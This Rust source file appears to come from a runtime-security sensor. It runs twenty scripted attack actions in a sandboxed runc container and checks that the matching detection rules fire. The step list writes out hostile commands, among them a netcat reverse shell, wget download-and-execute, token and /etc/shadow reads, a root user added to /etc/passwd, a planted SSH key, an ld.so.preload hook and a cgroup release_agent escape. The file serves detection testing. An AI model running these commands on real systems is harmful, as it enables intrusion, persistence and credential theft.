//! `palisade simulate node`: real attack actions inside a real container, with the real sensor
//! watching, and a check that each expected detection fires.
//!
//! The container is started with `runc` from a busybox root filesystem on overlayfs (so files
//! written at run time land on the upper layer, as in any container runtime). It shares the
//! host's network namespace so the reverse shell and the download reach listeners on
//! 127.0.0.1. Its OCI annotations are the ones CRI-O writes (`io.kubernetes.pod.name`, …), so
//! attribution names a pod, a namespace and an image as it would on a Kubernetes node. Each
//! step runs with `runc exec`; alerts are collected until the last step has finished and
//! `--wait` has passed.

use crate::cmd::sensor::Runner;
use anyhow::Context as _;
use palisade_detect::alert::Finding;
use palisade_sensor::node::NodeConfig;
use palisade_sensor::SensorConfig;
use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

const POD: &str = "payments-api-5d8c7b9f4-x2x7k";
const NAMESPACE: &str = "palisade-sim";
const IMAGE: &str = "registry.example.com/shop/payments-api:1.4.2";

/// One attack action and the detections it must raise.
struct Step {
    name: &'static str,
    script: String,
    tty: bool,
    expect: &'static [&'static str],
}

fn steps(rev_port: u16, http_port: u16) -> Vec<Step> {
    let s = |name, script: &str, expect| Step { name, script: script.to_string(), tty: false, expect };
    vec![
        Step { name: "interactive shell on a terminal", script: "/bin/sh -c 'id'".into(), tty: true, expect: EXPECT_TTY },
        s("reverse shell to 127.0.0.1", &format!("nc 127.0.0.1 {rev_port} -e /bin/sh"), EXPECT_REVERSE),
        s("web server spawns a shell", "exec -a sh /usr/sbin/nginx -c '/bin/sh -c id'", EXPECT_WEBSHELL),
        s(
            "download and execute",
            &format!("wget -q -O /tmp/payload http://127.0.0.1:{http_port}/payload && chmod +x /tmp/payload && /tmp/payload true"),
            EXPECT_DOWNLOAD,
        ),
        s("miner binary dropped and run", "cp /bin/busybox /tmp/xmrig && exec -a true /tmp/xmrig", EXPECT_MINER),
        s("connection to a mining pool port", "nc -w 1 127.0.0.1 3333 </dev/null; true", EXPECT_POOL),
        s("service-account token read", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null", EXPECT_TOKEN),
        s("/etc/shadow read", "cat /etc/shadow >/dev/null", EXPECT_SHADOW),
        s("cloud metadata service", "nc -w 1 169.254.169.254 80 </dev/null; true", EXPECT_METADATA),
        s("authorized_keys planted", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys", EXPECT_AUTHKEYS),
        s("user added", "echo 'sysadm:x:0:0::/root:/bin/sh' >> /etc/passwd", EXPECT_USER),
        s("ld.so.preload written", "echo /tmp/libhook.so > /etc/ld.so.preload", EXPECT_PRELOAD),
        s("setuid bit set", "chmod u+s /tmp/xmrig", EXPECT_SETUID),
        s("history wiped", "rm -f /root/.bash_history; true", EXPECT_HISTORY),
        s("network scanner", "cp /bin/busybox /tmp/nmap && exec -a true /tmp/nmap -sS 10.0.0.0/24", EXPECT_SCANNER),
        s("kubectl in a container", "cp /bin/busybox /tmp/kubectl && exec -a true /tmp/kubectl get secrets -A", EXPECT_KUBECTL),
        s("private key search", "find / -name id_rsa 2>/dev/null; true", EXPECT_KEYSEARCH),
        s("namespace escape attempt", "unshare -U -m true 2>/dev/null; true", EXPECT_UNSHARE),
        s("cgroup release_agent write", "echo /tmp/x > /sys/fs/cgroup/release_agent 2>/dev/null; true", EXPECT_RELEASE_AGENT),
        s("kernel module load", "insmod /tmp/rootkit.ko 2>/dev/null; true", EXPECT_MODULE),
    ]
}

// Rule ids each step must raise (crates/detect/rules/sensor.yaml).
const EXPECT_TTY: &[&str] = &["PAL-SEN-001"];
const EXPECT_REVERSE: &[&str] = &["PAL-SEN-005"];
const EXPECT_WEBSHELL: &[&str] = &["PAL-SEN-007"];
const EXPECT_DOWNLOAD: &[&str] = &["PAL-SEN-008"];
const EXPECT_MINER: &[&str] = &["PAL-SEN-002", "PAL-SEN-009"];
const EXPECT_POOL: &[&str] = &["PAL-SEN-004"];
const EXPECT_TOKEN: &[&str] = &["PAL-SEN-015"];
const EXPECT_SHADOW: &[&str] = &["PAL-SEN-017"];
const EXPECT_METADATA: &[&str] = &["PAL-SEN-014"];
const EXPECT_AUTHKEYS: &[&str] = &["PAL-SEN-018"];
const EXPECT_USER: &[&str] = &["PAL-SEN-019"];
const EXPECT_PRELOAD: &[&str] = &["PAL-SEN-026"];
const EXPECT_SETUID: &[&str] = &["PAL-SEN-029"];
const EXPECT_HISTORY: &[&str] = &["PAL-SEN-027"];
const EXPECT_SCANNER: &[&str] = &["PAL-SEN-012"];
const EXPECT_KUBECTL: &[&str] = &["PAL-SEN-013"];
const EXPECT_KEYSEARCH: &[&str] = &["PAL-SEN-016"];
const EXPECT_UNSHARE: &[&str] = &["PAL-SEN-020"];
const EXPECT_RELEASE_AGENT: &[&str] = &["PAL-SEN-021"];
const EXPECT_MODULE: &[&str] = &["PAL-SEN-025"];
/// Binary drift: every exec of a file written after start.
const EXPECT_DRIFT: &str = "PAL-SEN-030";

fn which(name: &str) -> Option<PathBuf> {
    std::env::var_os("PATH")
        .map(|p| std::env::split_paths(&p).map(|d| d.join(name)).collect::<Vec<_>>())
        .unwrap_or_default()
        .into_iter()
        .find(|p| p.is_file())
}

/// The container and its overlay root; removed on drop.
struct Container {
    runc: PathBuf,
    id: String,
    base: PathBuf,
    merged: PathBuf,
    keep: bool,
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = Command::new(&self.runc).args(["delete", "-f", &self.id]).stderr(Stdio::null()).status();
        let _ = Command::new("umount").arg(&self.merged).stderr(Stdio::null()).status();
        if let Ok(dirs) = std::fs::read_dir("/sys/fs/cgroup") {
            for d in dirs.flatten() {
                let _ = std::fs::remove_dir(d.path().join("palisade-sim").join(&self.id));
                let _ = std::fs::remove_dir(d.path().join("palisade-sim"));
            }
        }
        if !self.keep {
            let _ = std::fs::remove_dir_all(&self.base);
        }
    }
}

fn build_container(keep: bool) -> anyhow::Result<Container> {
    let runc = which("runc").context("runc is not installed (apt-get install runc)")?;
    let busybox = Path::new("/bin/busybox");
    anyhow::ensure!(busybox.exists(), "/bin/busybox is missing (apt-get install busybox-static)");
    let id = format!("palisade-sim-{}", std::process::id());
    let base = std::env::temp_dir().join(&id);
    let _ = std::fs::remove_dir_all(&base);
    let (lower, upper, work, merged) = (base.join("lower"), base.join("upper"), base.join("work"), base.join("rootfs"));
    for d in ["bin", "tmp", "etc", "root", "usr/sbin", "proc", "sys", "dev", "var/run/secrets/kubernetes.io/serviceaccount", "mnt"] {
        std::fs::create_dir_all(lower.join(d))?;
    }
    for d in [&upper, &work, &merged] {
        std::fs::create_dir_all(d)?;
    }
    std::fs::copy(busybox, lower.join("bin/busybox"))?;
    std::fs::copy(busybox, lower.join("usr/sbin/nginx"))?;
    for applet in [
        "sh", "cat", "cp", "chmod", "nc", "wget", "mkdir", "rm", "sleep", "id", "find", "unshare", "insmod", "true", "ls",
    ] {
        std::os::unix::fs::symlink("busybox", lower.join("bin").join(applet))?;
    }
    std::fs::write(lower.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/bin/false\n")?;
    std::fs::write(lower.join("etc/group"), "root:x:0:\n")?;
    std::fs::write(lower.join("etc/shadow"), "root:*:19000:0:99999:7:::\n")?;
    std::fs::write(
        lower.join("var/run/secrets/kubernetes.io/serviceaccount/token"),
        "eyJhbGciOiJSUzI1NiJ9.simulated-token.signature\n",
    )?;
    let opts = format!("lowerdir={},upperdir={},workdir={}", lower.display(), upper.display(), work.display());
    let st = Command::new("mount").args(["-t", "overlay", "overlay", "-o", &opts]).arg(&merged).status()?;
    anyhow::ensure!(st.success(), "mount -t overlay failed");
    let c = Container { runc: runc.clone(), id: id.clone(), base: base.clone(), merged, keep };
    let st = Command::new(&runc).arg("spec").current_dir(&base).status()?;
    anyhow::ensure!(st.success(), "runc spec failed");
    let path = base.join("config.json");
    let mut spec: serde_json::Value = serde_json::from_slice(&std::fs::read(&path)?)?;
    spec["process"]["terminal"] = false.into();
    spec["process"]["args"] = serde_json::json!(["/bin/sleep", "600"]);
    spec["process"]["cwd"] = "/".into();
    spec["root"]["readonly"] = false.into();
    spec["hostname"] = POD.into();
    spec["linux"]["cgroupsPath"] = format!("/palisade-sim/{id}").into();
    // the host network namespace: the reverse shell and download reach 127.0.0.1
    if let Some(ns) = spec["linux"]["namespaces"].as_array_mut() {
        ns.retain(|n| n["type"] != "network");
    }
    spec["annotations"] = serde_json::json!({
        "io.kubernetes.pod.name": POD,
        "io.kubernetes.pod.namespace": NAMESPACE,
        "io.kubernetes.container.name": "api",
        "io.kubernetes.cri-o.ImageName": IMAGE,
        "io.kubernetes.cri-o.Labels": "{\"app\":\"payments-api\"}",
    });
    std::fs::write(&path, serde_json::to_vec_pretty(&spec)?)?;
    let out = Command::new(&runc)
        .args(["run", "-d", "--bundle"])
        .arg(&base)
        .arg(&id)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .output()?;
    anyhow::ensure!(out.status.success(), "runc run: {}", String::from_utf8_lossy(&out.stderr).trim());
    Ok(c)
}

/// Serves one reverse-shell connection (sends commands, reads the answers) and the download.
fn listeners(stop: Arc<AtomicBool>) -> anyhow::Result<(u16, u16)> {
    let rev = TcpListener::bind("127.0.0.1:0")?;
    let http = TcpListener::bind("127.0.0.1:0")?;
    let (rp, hp) = (rev.local_addr()?.port(), http.local_addr()?.port());
    rev.set_nonblocking(true)?;
    http.set_nonblocking(true)?;
    let payload = std::fs::read("/bin/busybox")?;
    std::thread::spawn(move || {
        while !stop.load(Ordering::Relaxed) {
            if let Ok((mut s, _)) = rev.accept() {
                let _ = s.set_nonblocking(false);
                let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
                let _ = s.write_all(b"id\nexit\n");
                let mut sink = Vec::new();
                let _ = s.read_to_end(&mut sink);
            }
            if let Ok((mut s, _)) = http.accept() {
                let _ = s.set_nonblocking(false);
                let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
                let mut buf = [0u8; 1024];
                let _ = s.read(&mut buf);
                let head = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\n\r\n", payload.len());
                let _ = s.write_all(head.as_bytes());
                let _ = s.write_all(&payload);
            }
            std::thread::sleep(Duration::from_millis(10));
        }
    });
    Ok((rp, hp))
}

fn run_step(c: &Container, step: &Step) -> bool {
    let mut cmd = if step.tty {
        // a real pseudo-terminal for runc exec -t (python's pty module is on every Debian host)
        let mut cmd = Command::new("python3");
        cmd.args(["-c", "import pty,sys; pty.spawn(sys.argv[1:])"]).arg(&c.runc).args(["exec", "-t", &c.id, "/bin/sh", "-c", &step.script]);
        cmd
    } else {
        let mut cmd = Command::new(&c.runc);
        cmd.args(["exec", &c.id, "/bin/sh", "-c", &step.script]);
        cmd
    };
    let child = cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
    let Ok(mut child) = child else { return false };
    let until = Instant::now() + Duration::from_secs(15);
    loop {
        match child.try_wait() {
            Ok(Some(_)) => return true,
            Ok(None) if Instant::now() < until => std::thread::sleep(Duration::from_millis(20)),
            _ => {
                let _ = child.kill();
                let _ = child.wait();
                return false;
            }
        }
    }
}

pub fn run(keep: bool, wait: Duration, alerts_out: Option<PathBuf>) -> anyhow::Result<ExitCode> {
    palisade_sensor::check_support().context("simulate node needs root and BPF")?;
    let rs = palisade_detect::rules::RuleSet::builtin().map_err(|e| anyhow::anyhow!("built-in rules: {e:?}"))?;
    let det = palisade_detect::pipeline::Detector::new(&rs, Default::default()).map_err(|e| anyhow::anyhow!("rules: {e:?}"))?;
    let node_cfg = NodeConfig { cluster: "simulation".into(), node: "sim-node".into(), ..NodeConfig::default() };
    let mut runner = Runner::start(&SensorConfig { snapshot: true, ..SensorConfig::default() }, node_cfg, &rs, det)?;
    let stop = Arc::new(AtomicBool::new(false));
    let (rev_port, http_port) = listeners(stop.clone())?;
    let container = build_container(keep)?;
    let steps = steps(rev_port, http_port);
    let done = Arc::new(AtomicBool::new(false));
    let results: Arc<std::sync::Mutex<Vec<bool>>> = Arc::default();
    let mut found: BTreeMap<String, (String, String)> = BTreeMap::new(); // rule id -> (name, message)
    let mut log = match &alerts_out {
        Some(p) => Some(std::fs::File::create(p).with_context(|| p.display().to_string())?),
        None => None,
    };
    std::thread::scope(|scope| -> anyhow::Result<()> {
        let (c, steps_ref, done2, results2) = (&container, &steps, done.clone(), results.clone());
        scope.spawn(move || {
            for s in steps_ref {
                let ok = run_step(c, s);
                if let Ok(mut r) = results2.lock() {
                    r.push(ok);
                }
            }
            done2.store(true, Ordering::SeqCst);
        });
        let mut finished_at: Option<Instant> = None;
        loop {
            let mut emit = |f: &Finding| -> std::io::Result<()> {
                if let Finding::Alert(a) = f {
                    if a.entities.pod == POD {
                        if let Some(l) = log.as_mut() {
                            writeln!(l, "{}", serde_json::to_string(a.as_ref()).unwrap_or_default())?;
                        }
                        found.entry(a.rule.id.clone()).or_insert((a.rule.name.clone(), a.message.clone()));
                    }
                }
                Ok(())
            };
            runner.pump(Duration::from_millis(100), &mut emit)?;
            if done.load(Ordering::SeqCst) {
                let t = *finished_at.get_or_insert_with(Instant::now);
                if t.elapsed() >= wait {
                    runner.flush(&mut emit)?;
                    break;
                }
            }
        }
        Ok(())
    })?;
    stop.store(true, Ordering::Relaxed);
    let ran = results.lock().map(|r| r.clone()).unwrap_or_default();
    let mut missing = 0;
    let mut lines = Vec::new();
    let mut expect_line = |id: &str, step: &str, ok_step: bool| {
        let status = match found.get(id) {
            Some(_) => "fired",
            None => {
                missing += 1;
                "MISSING"
            }
        };
        let name = rs.rules().iter().find(|r| r.id == id).map(|r| r.name.clone()).unwrap_or_else(|| "(no such rule)".into());
        let note = if ok_step { "" } else { " (step did not complete)" };
        lines.push(format!("{id:<12} {status:<8} {name}  [{step}]{note}"));
    };
    for (i, s) in steps.iter().enumerate() {
        for id in s.expect {
            expect_line(id, s.name, ran.get(i).copied().unwrap_or(false));
        }
    }
    expect_line(EXPECT_DRIFT, "any exec of a file written after start", true);
    println!("palisade simulate node: {} actions in container {} ({NAMESPACE}/{POD}, {IMAGE})", steps.len(), container.id);
    for l in &lines {
        println!("{l}");
    }
    let expected: std::collections::BTreeSet<&str> =
        steps.iter().flat_map(|s| s.expect.iter().copied()).chain([EXPECT_DRIFT]).collect();
    let extra: Vec<&String> = found.keys().filter(|k| !expected.contains(k.as_str())).collect();
    if !extra.is_empty() {
        println!("also fired: {}", extra.iter().map(|s| s.as_str()).collect::<Vec<_>>().join(", "));
    }
    let total = lines.len();
    println!("{} of {total} expected detections fired", total - missing);
    drop(container);
    Ok(if missing == 0 { ExitCode::SUCCESS } else { ExitCode::from(1) })
}
